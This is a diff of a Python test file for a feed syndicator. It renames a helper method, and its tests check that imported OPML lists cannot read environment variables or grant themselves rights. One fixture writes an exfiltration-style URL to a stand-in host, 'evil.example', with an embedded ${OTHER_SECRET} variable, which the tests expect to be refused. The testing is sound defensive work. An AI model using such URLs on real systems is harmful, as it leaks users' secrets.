@@ -74,7 +74,7 @@ class Following:
         (self.config / "taxonomy.toml").write_text('[[tag]]\nname = "Sea"\n')
         web.answers = {"http://evil.example/feed": make_rss("E", "http://evil.example/", [])}
 
-    def run(self, *words: str) -> CompletedProcess[str]:
+    def run_command(self, *words: str) -> CompletedProcess[str]:
         environ = {"PATH": "/usr/bin:/bin", "HOME": str(self.folder), "OTHER_SECRET": SECRET}
         return commands.run_syndicator(*words, "--config", str(self.config), environ=environ)
 
@@ -108,8 +108,8 @@ def name_given(source: Mapping[str, Any]) -> set[str]:
 
 @pytest.mark.parametrize("name", OUTLINES)
 def test_a_list_reads_no_variable_and_gives_no_right(following: Following, name: str) -> None:
-    done = following.run("import", following.write_list(OUTLINES[name]))
-    following.run("refresh", "--all")
+    done = following.run_command("import", following.write_list(OUTLINES[name]))
+    following.run_command("refresh", "--all")
     assert done.returncode == 0 and not [
         address for address in following.web.asked if SECRET in address
     ]
@@ -122,12 +122,12 @@ def test_a_list_reads_no_variable_and_gives_no_right(following: Following, name:
             in done.stdout
         )
         assert not following.sources and not following.web.asked
-    said = following.run("check")
+    said = following.run_command("check")
     assert said.returncode == 0 and "source-rights" not in said.stdout
 
 
 def test_the_rights_that_a_list_asks_for_are_named(following: Following) -> None:
-    done = following.run("import", "--no-refresh", following.write_list(OUTLINES["rights"]))
+    done = following.run_command("import", "--no-refresh", following.write_list(OUTLINES["rights"]))
     rights = "allow, content, force, headers_env, licence, robots, speaks_for"
     assert (
         f"not taken: {following.folder}/list.opml line 3: E: {rights}; `--trust-own`" in done.stdout
@@ -145,21 +145,21 @@ def test_no_other_way_in_is_trusted(following: Following, way: str) -> None:
     tests/console.)"""
     path = following.write_list(f"{OUTLINES['rights']}\n{OUTLINES['plain']}")
     if way == "add a file":
-        following.run("add", "--yes", path)
+        following.run_command("add", "--yes", path)
     elif way == "add an address":
         listed = Answer(body=Path(path).read_text(), type="text/x-opml")
         following.web.answers = {**following.web.answers, "http://evil.example/list.opml": listed}
-        following.run("add", "--yes", "http://evil.example/list.opml")
+        following.run_command("add", "--yes", "http://evil.example/list.opml")
     elif way == "import a text":
         text = following.folder / "list.txt"
         text.write_text("http://evil.example/o?x=${OTHER_SECRET}\n")
-        assert following.run("import", str(text)).returncode != 0
+        assert following.run_command("import", str(text)).returncode != 0
     else:
         lists = following.folder / "lists"
         lists.mkdir()
         Path(path).rename(lists / "list.opml")
-        following.run("import", str(lists))
-    following.run("refresh", "--all")
+        following.run_command("import", str(lists))
+    following.run_command("refresh", "--all")
     assert len(following.sources) == way.startswith("add") and not any(
         map(name_given, following.sources)
     )
@@ -177,10 +177,10 @@ def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(
     )
     before = following.sources
     exported = following.folder / "own.opml"
-    exported.write_text(following.run("export").stdout)
+    exported.write_text(following.run_command("export").stdout)
     path.write_text("")
-    dry = following.run("import", "--dry-run", "--trust-own", str(exported)).stdout
-    done = following.run("import", "--trust-own", str(exported))
+    dry = following.run_command("import", "--dry-run", "--trust-own", str(exported)).stdout
+    done = following.run_command("import", "--trust-own", str(exported))
     line = (
         'given: mine: headers_env = { "X-Key" = "OTHER_SECRET" }, speaks_for = ["b.example"],'
         " ${OTHER_SECRET}\n"
@@ -188,7 +188,7 @@ def test_an_export_of_ones_own_comes_back_whole_and_names_what_it_brings(
     assert line in dry and line in done.stdout and "given: two" not in done.stdout
     assert following.sources == before
     assert f"http://mine.example/o?x={SECRET}" in following.web.asked
-    listed = following.run("check")
+    listed = following.run_command("check")
     assert f"{path}:1: info: source 'mine': it has headers_env" in listed.stdout
     assert listed.stdout.endswith("no problems found\n") and listed.returncode == 0
 
@@ -207,17 +207,17 @@ def test_a_list_takes_no_feed_of_a_source_that_was_removed(following: Following)
     (following.config / "sources.toml").write_text(
         f'[[source]]\nkey = "victim"\nurl = "{victim["url"]}"\n'
     )
-    following.run("refresh", "--all")
+    following.run_command("refresh", "--all")
     assert (following.folder / "feeds/public/sources/victim.atom").exists()
-    following.run("remove", "victim")
+    following.run_command("remove", "victim")
     outline = f"<outline {OURS} s:key='victim' text='{{}}' xmlUrl='{{}}'/>"
-    following.run(
+    following.run_command(
         "import",
         "--no-refresh",
         following.write_list(outline.format("E", "http://evil.example/feed")),
     )
     assert [source["key"] for source in following.sources] == ["evil"]
-    following.run(
+    following.run_command(
         "import", "--no-refresh", following.write_list(outline.format("V", victim["url"]))
     )
     assert [source["key"] for source in following.sources] == ["evil", "victim"]
